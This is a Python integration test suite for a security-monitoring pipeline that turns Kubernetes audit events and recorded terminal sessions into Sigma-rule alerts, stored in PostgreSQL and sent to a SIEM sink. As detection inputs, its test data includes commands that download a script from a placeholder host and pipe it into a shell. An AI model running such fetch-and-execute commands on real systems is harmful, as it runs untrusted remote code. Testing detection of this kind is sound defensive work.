"""Detection end to end on the real servers: Kubernetes audit webhook (uvicorn) -> Kafka ->
detect worker (Sigma rules) -> alert events on Kafka -> persist worker -> PostgreSQL, and a
JSON-lines sink subscribed to ``alert.*`` (the siem sink worker, in-process)."""

from __future__ import annotations

import asyncio
import dataclasses
import random
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Sequence
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest

from ingest.runtime import run_blocking
from schemas import encode_chunk
from sessionvault.errors import StorageError
from sessionvault.settings import Settings
from siem.config import SinkConfig, parse_siem_config
from siem.detect import DetectWorker
from storage import pg
from storage.detect_feed import OutputFeed
from storage.pg_sync import SyncPostgres
from storage.reader import iter_frames
from tests.integration.api_support import make_token, serve
from tests.integration.import_support import drain, fetch
from tests.integration.persist_helpers import build_session, drained, group_lag, produce
from tests.integration.siem_support import curl_pipe_shell, produce_events, running_sink
from tests.integration.test_kube_webhook import event_list, fixture_events
from tests.integration.test_recorder_spool import consume_all
from tests.integration.typed_session import STARTED_AT, TypedSession, record_typed_session

pytestmark = pytest.mark.integration

EXEC_RULE = "6b3e6a8e-1a53-4c36-9d7e-3f0c5a1d2b01"
CURL_RULE = "9a1c3e5f-7b2d-4f6a-8c0e-1d3b5f7a9c03"
FAILED_LOGINS_RULE = "5e9b1d3f-7a2c-4f4e-8b0a-ab2c4e6f8d07"
FAILED_LOGIN_BASE = "4d8a0c2e-6f1b-4e3d-b7a9-9b1d3f5a7c06"
EXEC_AUDIT_ID = "ca1ed9f4-7bf4-4c85-81a8-1b11253d1ba6"


def run_detect_until_drained(
    settings: Settings,
    *,
    group: str = "detect",
    timeout_s: float = 90,
    worker: DetectWorker | None = None,
) -> DetectWorker:
    """A real DetectWorker in a thread until its group's committed lag on the events topic is
    0 (which includes the alerts it produced itself: it has read them back and skipped them)
    and the segmenter's terminal-output feed is empty."""
    worker = worker or DetectWorker(settings, group_id=group)
    group = worker.group_id
    stop = threading.Event()
    errors: list[BaseException] = []

    def target() -> None:
        try:
            run_blocking(lambda ev: worker.run(stop=ev), stop)
        except BaseException as exc:
            errors.append(exc)

    thread = threading.Thread(target=target, name=f"detect-{group}", daemon=True)
    thread.start()
    deadline = time.monotonic() + timeout_s
    try:
        while not drained(settings, [settings.topic_events], group) or feed_rows(settings):
            assert not errors, f"detect worker crashed: {errors[0]!r}"
            assert thread.is_alive(), "detect worker returned before it was stopped"
            assert time.monotonic() < deadline, f"lag not 0: {group_lag(settings, group)}"
            time.sleep(0.5)
    finally:
        stop.set()
        thread.join(timeout=60)
    assert not thread.is_alive(), "detect worker did not stop"
    assert not errors, f"detect worker crashed: {errors[0]!r}"
    return worker


def feed_rows(settings: Settings) -> int:
    """Rows of the terminal-output feed not yet detected."""
    n = fetch(settings, "SELECT count(*) AS n FROM detect_feed")[0]["n"]
    assert isinstance(n, int)
    return n


def stored_alerts(settings: Settings) -> list[dict[str, Any]]:
    rows = fetch(
        settings,
        "SELECT body FROM events WHERE tenant = $1 AND event = 'alert.sigma' ORDER BY uid",
        settings.tenant,
    )
    return [orjson.loads(str(r["body"])) for r in rows]


def alerts_on_kafka(settings: Settings) -> list[dict[str, Any]]:
    docs = [orjson.loads(r.value) for r in consume_all(settings, settings.topic_events)]
    return [d for d in docs if d.get("event") == "alert.sigma"]


def alert_sink(settings: Settings, out: Path) -> SinkConfig:
    return parse_siem_config(
        f"""
[[sink]]
name = "alerts-{settings.tenant[-8:]}"
type = "jsonl"
path = "{out}"
[sink.filter]
event_types = ["alert.*"]
""".encode()
    ).sinks[0]


def sink_lines(settings: Settings, out: Path, want: int) -> list[dict[str, Any]]:
    """Run the alert sink until it has written ``want`` lines and committed everything."""
    cfg = alert_sink(settings, out)
    with running_sink(settings, cfg) as run:
        run.wait(lambda: out.exists() and len(out.read_bytes().splitlines()) >= want, 60, "lines")
        run.wait(
            lambda: group_lag(settings, cfg.group_id).get(settings.topic_events) == 0,
            30,
            "sink committed lag 0",
        )
    return [orjson.loads(line) for line in out.read_bytes().splitlines()]


def test_exec_fixture_posted_to_the_webhook_raises_one_stored_alert_and_redelivery_adds_no_row(
    settings: Settings, tmp_path: Path
) -> None:
    token = make_token(settings, clusters=["prod"])
    with serve(settings) as url, httpx.Client(base_url=url, timeout=30) as http:
        resp = http.post(
            "/v1/kube/audit/prod",
            content=event_list(fixture_events()),
            headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
        )
        assert resp.status_code == 200, resp.text
        assert resp.json() == {"accepted": 3}
    drain(settings, [settings.topic_events])
    first = run_detect_until_drained(settings)
    assert first.stats.evaluated == 3
    assert first.stats.alerts == 1
    assert first.stats.own_alerts == 1  # it read its own alert back and skipped it
    drain(settings, [settings.topic_events])  # the persist worker stores the alert event

    alerts = stored_alerts(settings)
    assert len(alerts) == 1
    alert = alerts[0]
    exec_req = fetch(
        settings,
        "SELECT uid, time FROM events WHERE tenant = $1 AND body::jsonb #>> "
        "'{kube_audit,auditID}' = $2",
        settings.tenant,
        EXEC_AUDIT_ID,
    )
    assert len(exec_req) == 1
    assert alert["rule_id"] == EXEC_RULE
    assert alert["title"] == "Exec or attach into a container"
    assert alert["level"] == "medium"
    assert alert["code"] == "SV5001W"
    assert alert["matched_uid"] == exec_req[0]["uid"]
    assert alert["matched_event"] == "kube.request"
    assert alert["tenant"] == settings.tenant
    assert alert["user"] == "minikube-user"
    # Kubernetes audit events belong to no recorded session: no replay link to give.
    assert "sid" not in alert
    assert "replay" not in alert

    lines = sink_lines(settings, tmp_path / "alerts.jsonl", 1)
    assert [(d["event"], d["uid"], d["rule_id"]) for d in lines] == [
        ("alert.sigma", alert["uid"], EXEC_RULE)
    ]

    # Redelivery: a second group reads the topic from the start and produces the alert again.
    again = run_detect_until_drained(settings, group="detect-replay")
    assert again.stats.alerts == 1
    on_kafka = alerts_on_kafka(settings)
    assert len(on_kafka) == 2
    assert {a["uid"] for a in on_kafka} == {alert["uid"]}
    assert {a["time"] for a in on_kafka} == {alert["time"]}
    drain(settings, [settings.topic_events])
    assert stored_alerts(settings) == [alert]


def test_curl_pipe_shell_in_a_stored_session_gets_a_replay_link_at_the_right_offset(
    settings: Settings, tmp_path: Path
) -> None:
    sid = "7e57c0de-0000-4000-8000-00000000c0de"
    # The session row (started 2026-11-21T10:00:00Z) exists in PostgreSQL; the detect worker
    # never sees a session.start event, so the offset can only come from the sessions table.
    session = build_session(settings.tenant, sid, 2, random.Random(5))
    chunks = [(sid.encode(), encode_chunk(c)) for c in session.chunks]
    produce(settings, settings.topic_chunks, chunks)
    drain(settings, [settings.topic_chunks])
    command = curl_pipe_shell(settings.tenant, sid)
    harmless = dict(command, uid=f"{sid}-cmd2", argv=["-c", "curl -o x https://example.com"])
    produce_events(settings, [command, harmless])
    worker = run_detect_until_drained(settings)
    assert worker.stats.alerts == 1
    drain(settings, [settings.topic_events])

    alerts = stored_alerts(settings)
    assert len(alerts) == 1
    alert = alerts[0]
    assert alert["rule_id"] == CURL_RULE
    assert alert["matched_uid"] == command["uid"]
    assert alert["sid"] == sid
    assert alert["offset_ms"] == 42_500
    assert alert["replay"] == f"sessionvault play {sid} --start-at 42.500"
    lines = sink_lines(settings, tmp_path / "alerts.jsonl", 1)
    assert len(lines) == 1
    assert lines[0]["replay"] == alert["replay"]
    assert lines[0]["uid"] == alert["uid"]


def _login(tenant: str, i: int, user: str, second: int, success: bool = False) -> dict[str, Any]:
    return {
        "sv_version": 1,
        "tenant": tenant,
        "event": "user.login",
        "code": "T1000W" if not success else "T1000I",
        "uid": f"login-{user}-{i}",
        "time": f"2026-03-02T09:{second // 60:02d}:{second % 60:02d}.000Z",
        "user": user,
        "method": "local",
        "success": success,
    }


def test_five_failed_logins_by_one_user_within_a_minute_store_one_correlation_alert(
    settings: Settings,
) -> None:
    t = settings.tenant
    events = (
        # mallory: 5 failures in 48 s -> fires once.
        [_login(t, i, "mallory", 12 * i) for i in range(5)]
        # bob: 5 failures, but spread over 4 minutes -> never 5 within a minute.
        + [_login(t, i, "bob", 60 * i) for i in range(5)]
        # carol: 4 failures and a success within a minute -> 4 failures only.
        + [_login(t, i, "carol", 5 * i) for i in range(4)]
        + [_login(t, 9, "carol", 30, success=True)]
    )
    produce_events(settings, events)  # keyed by uid: spread over the partitions
    worker = run_detect_until_drained(settings)
    assert worker.stats.evaluated == len(events)
    drain(settings, [settings.topic_events])

    alerts = stored_alerts(settings)
    assert len(alerts) == 1
    alert = alerts[0]
    assert alert["rule_id"] == FAILED_LOGINS_RULE
    assert alert["level"] == "high"
    corr = alert["correlation"]
    assert corr["group"] == {"user": "mallory"}
    assert corr["count"] == 5
    assert sorted(corr["matched_uids"]) == sorted(f"login-mallory-{i}" for i in range(5))
    # The base rule only feeds the correlation (generate: false): no alert of its own.
    assert FAILED_LOGIN_BASE not in {a["rule_id"] for a in alerts}


def test_worker_detect_cli_produces_alerts_and_stops_cleanly_on_sigterm(
    settings: Settings, sv_env: dict[str, str]
) -> None:
    cmd = {
        "sv_version": 1,
        "tenant": settings.tenant,
        "event": "exec",
        "code": "T3002I",
        "uid": "exec-1",
        "sid": "cli-session",
        "time": "2026-05-04T08:00:01Z",
        "command": "wget -qO- https://x.example/i.sh | sh",
    }
    produce_events(settings, [cmd])
    exe = Path(sys.executable).parent / "sessionvault"
    proc = subprocess.Popen(
        [str(exe), "worker", "detect", "--status-every", "0.5"],
        env=sv_env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        deadline = time.monotonic() + 60
        while not drained(settings, [settings.topic_events], "detect"):
            assert proc.poll() is None, proc.stderr.read().decode() if proc.stderr else ""
            assert time.monotonic() < deadline, "the CLI worker did not drain the topic"
            time.sleep(0.5)
    finally:
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=60)
    assert proc.returncode == 0, err.decode()
    assert b"stopped after 2 records, 1 alerts" in err
    alerts = alerts_on_kafka(settings)
    assert [(a["rule_id"], a["matched_uid"]) for a in alerts] == [(CURL_RULE, "exec-1")]


# Typed with a typo in the shell's name that is erased and fixed: only the rendered line (what
# the reviewer saw) is a download piped into a shell.
CURL_TYPED = "curl -fsSL https://get.example.com/i.sh | sh"
CURL_TYPO = "curl -fsSL https://get.example.com/i.sh | sj"


def _first_output_from(settings: Settings, sid: str, start_ms: int) -> bytes:
    async def read() -> bytes:
        pool = await pg.create_pool(settings.postgres_dsn.get())
        try:
            async for frame in iter_frames(pool, settings.tenant, sid, start_ms=start_ms):
                if frame.stream.value == "o":
                    return frame.data
            return b""
        finally:
            await pool.close()

    return asyncio.run(read())


def _record_curl_session(settings: Settings) -> TypedSession:
    typed = record_typed_session(settings, command=CURL_TYPED, typo=CURL_TYPO, seed=11)
    # persist + segmenter: the output lines are rendered and fed to detection
    drain(settings, [settings.topic_chunks])
    assert feed_rows(settings) >= 1
    return typed


def test_curl_pipe_shell_typed_in_a_recorded_session_alerts_from_its_output_at_the_typing_offset(
    settings: Settings, tmp_path: Path
) -> None:
    typed = _record_curl_session(settings)
    worker = run_detect_until_drained(settings)
    assert worker.stats.output_alerts == 1
    assert worker.stats.output_segments >= 3  # the login banner, the command line, "logout"
    drain(settings, [settings.topic_events])

    alerts = stored_alerts(settings)
    assert [a["rule_id"] for a in alerts] == [CURL_RULE]
    alert = alerts[0]
    assert alert["sid"] == typed.sid
    assert alert["matched_event"] == "output"
    assert alert["user"] == "alice"
    assert alert["server_id"] == "web-1"
    # The link opens when the "c" of curl was echoed (not when the prompt was printed): the
    # first output played from there is that character.
    assert abs(alert["offset_ms"] - typed.first_ms) <= 1
    offset = alert["offset_ms"]
    assert alert["replay"] == f"sessionvault play {typed.sid} --start-at {offset / 1000:.3f}"
    assert _first_output_from(settings, typed.sid, offset) == b"c"
    started = datetime.fromisoformat(STARTED_AT.replace("Z", "+00:00"))
    expected_time = started + timedelta(milliseconds=offset)
    assert datetime.fromisoformat(alert["time"].replace("Z", "+00:00")) == expected_time

    lines = sink_lines(settings, tmp_path / "alerts.jsonl", 1)
    assert [(d["uid"], d["replay"]) for d in lines] == [(alert["uid"], alert["replay"])]

    # Every feed row was deleted after its alerts were acknowledged: nothing is evaluated twice.
    assert feed_rows(settings) == 0
    again = run_detect_until_drained(settings)
    assert again.stats.output_segments == 0
    assert again.stats.output_alerts == 0


class _DeleteFailsOnce(OutputFeed):
    """The feed as it is, except that the first delete fails (as if PostgreSQL went away right
    after the alerts were acknowledged by Kafka)."""

    failed = False

    def done(self, ids: Sequence[int]) -> None:
        if not self.failed:
            self.failed = True
            raise StorageError("injected: connection lost before the feed rows were deleted")
        super().done(ids)


def test_a_feed_batch_whose_delete_fails_is_detected_again_and_its_alert_stored_once(
    settings: Settings,
) -> None:
    _record_curl_session(settings)
    db = SyncPostgres(settings.postgres_dsn.get())
    feed = _DeleteFailsOnce(db)
    worker = DetectWorker(settings, group_id="detect-feed-retry", output_feed=feed)
    run_detect_until_drained(settings, worker=worker)
    assert feed.failed
    assert worker.stats.output_retries == 1
    assert feed_rows(settings) == 0
    on_kafka = [a for a in alerts_on_kafka(settings) if a["rule_id"] == CURL_RULE]
    # produced twice (before and after the failure), identical: same uid, same time
    assert len(on_kafka) == 2
    assert len({(a["uid"], a["time"], a["offset_ms"]) for a in on_kafka}) == 1
    drain(settings, [settings.topic_events])
    assert [a["uid"] for a in stored_alerts(settings)] == [on_kafka[0]["uid"]]


def test_rules_test_on_a_stored_session_gives_the_workers_alert_and_only_for_its_tenant(
    settings: Settings,
) -> None:
    from click.testing import CliRunner

    from sessionvault.cli import main
    from siem.rules import STARTER_DIR

    typed = _record_curl_session(settings)
    res = CliRunner().invoke(
        main, ["rules", "test", str(STARTER_DIR), "--session", typed.sid, "--json"], obj=settings
    )
    assert res.exit_code == 0, res.output
    alerts = [orjson.loads(line) for line in res.stdout.splitlines() if line.startswith("{")]
    assert [a["rule_id"] for a in alerts] == [CURL_RULE]
    assert abs(alerts[0]["offset_ms"] - typed.first_ms) <= 1
    # the worker, later, produces the very same alert (same uid: stored once)
    run_detect_until_drained(settings, group="detect-rules-test")
    assert [a["uid"] for a in alerts_on_kafka(settings)] == [alerts[0]["uid"]]

    other = dataclasses.replace(settings, tenant="someone-else")
    res = CliRunner().invoke(
        main, ["rules", "test", str(STARTER_DIR), "--session", typed.sid], obj=other
    )
    assert res.exit_code != 0
    # Exactly what every command says of another tenant's session.
    assert f"session {typed.sid!r} not found" in res.output


def test_detect_members_running_at_once_one_killed_mid_batch_alert_every_match_with_one_id(
    settings: Settings, sv_env: dict[str, str], tmp_path: Path
) -> None:
    """Two `worker detect` processes in one group over many sessions' events, one SIGKILLed
    while the topic drains and a third started: every matching command gets its alert (none
    lost), and a match redelivered after the kill gets the same alert id again, so storing
    alerts (idempotent by uid) keeps exactly one per match."""
    events: list[dict[str, Any]] = []
    for i in range(240):
        bad = i % 4 == 0
        events.append(
            {
                "sv_version": 1,
                "tenant": settings.tenant,
                "event": "exec",
                "code": "T3002I",
                "uid": f"exec-{i}",
                "sid": f"conc-{i % 24}",  # 24 sessions over the topic's partitions
                "time": f"2026-05-04T08:{i // 60:02d}:{i % 60:02d}Z",
                "command": "wget -qO- https://x.example/i.sh | sh" if bad else f"ls /tmp/{i}",
            }
        )
    produce_events(settings, events)
    exe = Path(sys.executable).parent / "sessionvault"

    logs: list[Path] = []
    # A group of its own: the suite's tests share one broker, and a member another test left
    # behind (killed mid-join) must not hold this group's rebalance.
    group = f"detect-{settings.tenant}"

    def start() -> subprocess.Popen[bytes]:
        logs.append(tmp_path / f"member-{len(logs)}.log")
        with logs[-1].open("wb") as out:
            return subprocess.Popen(
                [str(exe), "worker", "detect", "--group", group, "--status-every", "1"],
                env=sv_env,
                stdout=out,
                stderr=subprocess.STDOUT,
            )

    def said() -> str:
        return "\n".join(f"{p.name}: {p.read_text()[-1500:]}" for p in logs)

    members = [start(), start()]
    try:
        # Two members joining at once: tansu may need a few session timeouts to settle.
        deadline = time.monotonic() + 120
        while not alerts_on_kafka(settings):
            assert time.monotonic() < deadline, f"no member raised an alert\n{said()}"
            time.sleep(0.2)
        members[0].kill()  # SIGKILL: its batch in hand is redelivered to the others
        members[0].wait(10)
        members.append(start())
        deadline = time.monotonic() + 120
        while not drained(settings, [settings.topic_events], group):
            assert all(m.poll() is None for m in members[1:]), "a detect member died"
            assert time.monotonic() < deadline, f"the group did not drain the topic\n{said()}"
            time.sleep(0.5)
    finally:
        for m in members[1:]:
            m.send_signal(signal.SIGTERM)
            m.wait(60)
    alerts = [a for a in alerts_on_kafka(settings) if a["rule_id"] == CURL_RULE]
    matched = {str(e["uid"]) for e in events if "| sh" in str(e["command"])}
    assert {a["matched_uid"] for a in alerts} == matched
    ids: dict[str, set[str]] = {}
    for a in alerts:
        ids.setdefault(a["matched_uid"], set()).add(a["uid"])
    assert all(len(v) == 1 for v in ids.values()), ids
